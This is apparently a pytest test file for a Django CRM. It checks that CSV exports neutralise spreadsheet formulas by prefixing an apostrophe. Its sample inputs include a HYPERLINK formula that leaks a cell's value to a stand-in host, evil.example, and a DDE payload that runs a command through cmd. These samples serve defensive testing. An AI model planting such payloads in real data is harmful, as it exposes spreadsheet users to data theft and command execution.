"""Every CSV export neutralises spreadsheet formulas (OWASP "CSV injection").

A cell starting with = + - @ tab or carriage return gets an apostrophe in front,
so a spreadsheet shows the text instead of running it; numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest

from crm.export import csv_cell
from tests.factories import (
    ActivityFactory,
    CompanyFactory,
    ContactFactory,
    ContentOfferFactory,
    DealFactory,
    LeadFactory,
    SubscriptionFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
DDE = "=cmd|' /C calc'!A0"


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


# Per export: the factory of a row the rep owns, whose text column is hostile,
# and the column the hostile text comes out in.
EXPORTS = {
    "companies": (lambda rep: CompanyFactory(owner=rep, name="=1+1"), "name"),
    "contacts": (
        lambda rep: ContactFactory(owner=rep, job_title="@SUM(1)"),
        "job_title",
    ),
    "subscriptions": (
        lambda rep: SubscriptionFactory(company=CompanyFactory(owner=rep), plan="+1-1"),
        "plan",
    ),
    "leads": (lambda rep: LeadFactory(owner=rep, company_name=DDE), "company_name"),
    "deals": (lambda rep: DealFactory(owner=rep, title="-2+3"), "title"),
    "activities": (
        lambda rep: ActivityFactory(lead=LeadFactory(owner=rep), notes="\t=1+1"),
        "notes",
    ),
}
ADMIN_PAGES = {
    "companies": "/admin/crm/company/",
    "contacts": "/admin/crm/contact/",
    "subscriptions": "/admin/crm/subscription/",
    "leads": "/admin/leads/lead/",
    "deals": "/admin/pipeline/deal/",
    "activities": "/admin/pipeline/activity/",
}


@pytest.mark.parametrize("name", EXPORTS)
def test_api_export_neutralises_formulas(name, api_as, rep):
    make, column = EXPORTS[name]
    row = make(rep)
    hostile = getattr(row, column)

    rows = _rows(api_as(rep).get(f"/api/v1/{name}/export/"))

    assert rows[0][column] == "'" + hostile


@pytest.mark.parametrize("name", EXPORTS)
def test_admin_export_neutralises_formulas(name, client, rep):
    make, column = EXPORTS[name]
    row = make(rep)
    client.force_login(rep)

    rows = _rows(
        client.post(
            ADMIN_PAGES[name], {"action": "export_csv", "_selected_action": [row.pk]}
        )
    )

    assert rows[0][column] == "'" + getattr(row, column)


def test_prospects_admin_export_neutralises_formulas(client, rep):
    prospect = LeadFactory(owner=rep, status="prospect", first_name="@SUM(1)")
    client.force_login(rep)

    rows = _rows(
        client.post(
            "/admin/leads/prospect/",
            {"action": "export_csv", "_selected_action": [prospect.pk]},
        )
    )

    assert rows[0]["first_name"] == "'@SUM(1)"


def test_an_anonymous_capture_comes_out_harmless(anon_api, api_as, team, rep):
    team.handles_inbound = True
    team.save()
    ContentOfferFactory(slug="playbook")
    anon_api.post(
        "/api/v1/capture/",
        {
            "offer": "playbook",
            "first_name": HYPERLINK,
            "last_name": "Lima",
            "email": "ana@corp.example",
            "company": DDE,
            "job_title": "@SUM(1)",
            "phone": "",
            "consent": False,
        },
    )

    (row,) = _rows(api_as(rep).get("/api/v1/leads/export/"))

    assert row["first_name"] == "'" + HYPERLINK
    assert row["company_name"] == "'" + DDE
    assert row["job_title"] == "'@SUM(1)"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-1250.50"), "-1250.50"),
        (-3, "-3"),
        ("-42", "-42"),  # text that is a plain number is not a formula
        ("+33 1 23 45", "'+33 1 23 45"),
        ("\rX", "'\rX"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_text_is_neutralised(value, cell):
    assert csv_cell(value) == cell
